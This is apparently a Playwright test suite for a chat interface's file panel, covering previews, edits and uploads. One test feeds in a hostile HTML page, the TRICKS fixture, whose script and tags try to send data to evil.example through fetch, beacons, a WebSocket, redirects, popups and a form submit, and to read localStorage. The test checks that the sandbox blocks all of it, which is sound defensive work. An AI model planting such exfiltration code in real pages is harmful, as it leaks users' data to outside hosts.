import type { Page } from "@playwright/test";
import { ask, expect, open, settled, test, transcript } from "./fixtures";

const O = "/mnt/user-data/outputs";

/** The files of the thread, in the shapes of the native API. */
async function serveFiles(
  page: Page,
  files: Record<string, string>,
  onSave?: (body: unknown) => number,
): Promise<void> {
  await page.route("**/api/threads/*/artifacts/**", async (route) => {
    const name = decodeURIComponent(new URL(route.request().url()).pathname.split("/artifacts/")[1] ?? "");
    const path = `/${name}`;
    if (route.request().method() === "PUT") {
      const status = onSave?.(route.request().postDataJSON()) ?? 200;
      return route.fulfill({ status, json: status === 200 ? { path, sha256: "x", size: 1 } : { detail: "changed" } });
    }
    const body = files[path];
    if (body === undefined) return route.fulfill({ status: 404, json: { detail: "no such file" } });
    return route.fulfill({ status: 200, contentType: "application/octet-stream", body: Buffer.from(body, "latin1") });
  });
}

async function handOver(page: Page, ...names: string[]): Promise<void> {
  const write = names.map((name) => ["write_file", { path: `${O}/${name}`, content: "x" }]);
  const filepaths = names.map((name) => `${O}/${name}`);
  await ask(page, `STEPS ${JSON.stringify([...write, ["present_files", { filepaths }]])}`);
  await expect(transcript(page).getByText("All done.")).toBeVisible();
  await settled(page);
}

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
).toString("latin1");

test("files are shown by their kind", async ({ page, hart }) => {
  await serveFiles(page, {
    [`${O}/notes.md`]: "# Notes\n\nSome **bold** words",
    [`${O}/data.csv`]: 'name,value\n"a, b",1\n',
    [`${O}/code.py`]: "def f():\n    return 1\n",
    [`${O}/dot.png`]: PNG,
    [`${O}/thing.bin`]: "\u0000",
  });
  await open(page, hart);
  await handOver(page, "notes.md", "data.csv", "code.py", "dot.png", "thing.bin", "gone.md");
  await page.getByRole("button", { name: "Files", exact: true }).click();
  const panel = page.getByRole("complementary", { name: "Files" });
  const show = async (name: string) => {
    await panel.getByRole("button", { name: new RegExp(`^${name}`) }).click();
  };
  const back = () => panel.getByRole("button", { name: "Back to the list" }).click();
  await show("notes.md");
  await expect(panel.locator("strong")).toHaveText("bold");
  await back();
  await show("data.csv");
  await expect(panel.getByRole("cell", { name: "a, b" })).toBeVisible();
  await back();
  await show("code.py");
  await expect(panel.locator(".hljs-keyword").first()).toHaveText("def");
  await back();
  await show("dot.png");
  await expect(panel.getByRole("img", { name: "dot.png" })).toHaveJSProperty("complete", true);
  await back();
  await show("thing.bin");
  await expect(panel.getByText("There is no preview")).toBeVisible();
  await back();
  await show("gone.md");
  await expect(panel.getByText("The file is not there")).toBeVisible();
});

const TRICKS = `<!doctype html><style>body{color:rgb(1,2,3)}@import url(https://evil.example/css)</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel=stylesheet href="https://evil.example/link"><img src="https://evil.example/img">
<img src=x onerror="parent.postMessage('ran','*');fetch('https://evil.example/fetch')">
<iframe src="https://evil.example/frame"></iframe><form id=f action="https://evil.example/form"></form>
<script>
  parent.postMessage('ran', '*');
  fetch('https://evil.example/fetch').catch(() => {});
  new Image().src = 'https://evil.example/beacon';
  navigator.sendBeacon('https://evil.example/send');
  try { new WebSocket('wss://evil.example/ws') } catch (e) {}
  try { top.location = 'https://evil.example/top' } catch (e) {}
  try { window.open('https://evil.example/popup') } catch (e) {}
  try { f.submit() } catch (e) {}
  try { parent.postMessage('stole ' + parent.localStorage.length, '*') } catch (e) {}
</script><p>the page</p>`;

test("a page an agent wrote can send nothing out, without its scripts and with them", async ({
  page,
  hart,
  outside,
}) => {
  await serveFiles(page, { [`${O}/page.html`]: TRICKS });
  await open(page, hart);
  await page.evaluate(() => {
    const heard: unknown[] = [];
    (window as unknown as { heard: unknown[] }).heard = heard;
    addEventListener("message", (event) => typeof event.data === "string" && heard.push(event.data));
  });
  await handOver(page, "page.html");
  await page.getByRole("button", { name: "page.html", exact: true }).click();
  const frame = page.frameLocator("iframe.page-frame");
  await expect(frame.getByText("the page")).toBeVisible();
  await expect(frame.locator("body")).toHaveCSS("color", "rgb(1, 2, 3)");
  await page.waitForTimeout(800);
  const heard = () => page.evaluate(() => (window as unknown as { heard: unknown[] }).heard);
  expect(await heard()).toEqual([]);
  expect(outside).toEqual([]);
  await page.getByRole("button", { name: "Run its scripts" }).click();
  await expect.poll(heard).toContain("ran");
  await page.waitForTimeout(1500);
  expect((await heard()).filter((one) => String(one).startsWith("stole"))).toEqual([]);
  expect(outside).toEqual([]);
  await expect(page).toHaveURL(new RegExp(`^${hart.url}/chat/`));
  expect(page.context().pages()).toHaveLength(1);
});

test("a diagram is drawn in its own frame and shown as a picture", async ({ page, hart, outside }) => {
  await open(page, hart);
  await ask(page, `SAY64 ${Buffer.from("```mermaid\ngraph TD\nA[Start] --> B[End]\n```").toString("base64")}`);
  await settled(page);
  const picture = page.locator(".diagram img");
  await expect(picture).toBeVisible({ timeout: 30_000 });
  await expect.poll(() => picture.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
  // Two boxes are no wall.
  expect((await picture.boundingBox())?.width).toBeLessThan(300);
  expect(outside).toEqual([]);
});

test("an edit names what it was made from, and a lost race keeps the text", async ({ page, hart }) => {
  const saved: { content?: string; expected_sha256?: string }[] = [];
  let answer = 412;
  await serveFiles(page, { [`${O}/notes.md`]: "old" }, (body) => {
    saved.push(body as { content?: string });
    return answer;
  });
  await open(page, hart);
  await handOver(page, "notes.md");
  await page.getByRole("button", { name: "notes.md", exact: true }).click();
  const panel = page.getByRole("complementary", { name: "Files" });
  await panel.getByRole("button", { name: "Edit" }).click();
  await panel.getByRole("textbox", { name: "notes.md" }).fill("new");
  await panel.getByRole("button", { name: "Save" }).click();
  await expect(panel.getByRole("alert")).toContainText("changed meanwhile");
  await expect(panel.getByRole("textbox", { name: "notes.md" })).toHaveValue("new");
  answer = 200;
  await panel.getByRole("button", { name: "Save mine over it" }).click();
  await expect(page.getByText("Saved")).toBeVisible();
  // The SHA-256 of "old".
  expect(saved[0]).toEqual({
    content: "new",
    expected_sha256: "cba06b5736faf67e54b07b561eae94395e774c517a7d910a54369e1263ccfbd4",
  });
});

test("files are attached by button, by paste and by drop, with progress", async ({ page, hart }) => {
  await page.route("**/uploads/limits", (route) =>
    route.fulfill({ json: { max_files: 10, max_file_size: 100, max_total_size: 1000 } }),
  );
  await page.route("**/api/threads/*/uploads", (route) => {
    const name = /filename="([^"]+)"/.exec(route.request().postData() ?? "")?.[1] ?? "?";
    const file = { filename: name, size: 3, path: `/x/${name}`, virtual_path: `/mnt/user-data/uploads/${name}` };
    return route.fulfill({ json: { success: true, files: [file], message: "" } });
  });
  await open(page, hart);
  await page
    .locator("input[type=file]")
    .setInputFiles({ name: "a.txt", mimeType: "text/plain", buffer: Buffer.from("abc") });
  await expect(page.getByRole("listitem").filter({ hasText: "a.txt" })).toContainText("3 B");
  await page.locator("input[type=file]").setInputFiles({ name: "big.bin", mimeType: "x/y", buffer: Buffer.alloc(500) });
  await expect(page.getByText("larger than the limit of 100 B")).toBeVisible();
  await page.getByRole("button", { name: "Remove big.bin" }).click();
  await page.getByRole("textbox", { name: "Message" }).evaluate((element) => {
    const data = new DataTransfer();
    data.items.add(new File(["def"], "pasted.txt", { type: "text/plain" }));
    element.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await expect(page.getByText("pasted.txt")).toBeVisible();
  await ask(page, "SAY got them");
  await settled(page);
  await expect(page.getByRole("article", { name: "You" })).toContainText("a.txt");
  await expect(page.getByRole("article", { name: "You" })).toContainText("pasted.txt");
});
